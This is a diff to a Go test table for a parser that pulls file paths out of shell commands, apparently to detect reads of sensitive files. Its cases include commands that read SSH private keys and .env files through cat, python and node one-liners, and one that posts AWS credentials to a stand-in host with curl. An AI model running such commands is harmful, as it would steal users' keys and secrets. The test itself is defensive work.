@@ -47,6 +47,9 @@ func TestCommandPaths(t *testing.T) {
 		{`echo ~/.ssh/id_rsa | xargs cat`, []event.Input{r("~/.ssh/id_rsa")}},
 		{`curl -d @~/.aws/credentials https://x.example`, []event.Input{r("~/.aws/credentials")}},
 		{"bash <<EOF\ncat ~/.ssh/id_rsa\nEOF", []event.Input{r("~/.ssh/id_rsa")}},
+		// the string literals of an interpreter's one-liner
+		{`python3 -c "print(open('/home/u/.ssh/id_rsa').read())"`, []event.Input{r("print(open('/home/u/.ssh/id_rsa').read())"), r("/home/u/.ssh/id_rsa")}},
+		{`node -e 'require("fs").readFileSync(".env")'`, []event.Input{r(`require("fs").readFileSync(".env")`), r(".env")}},
 		// what is not a read of the file
 		{"cat > notes.md <<'EOF'\nsee ~/.ssh/config and .env\nEOF\nwc -l notes.md", []event.Input{w("notes.md"), r("notes.md")}},
 		{`echo .env >> .gitignore`, []event.Input{w(".gitignore")}},
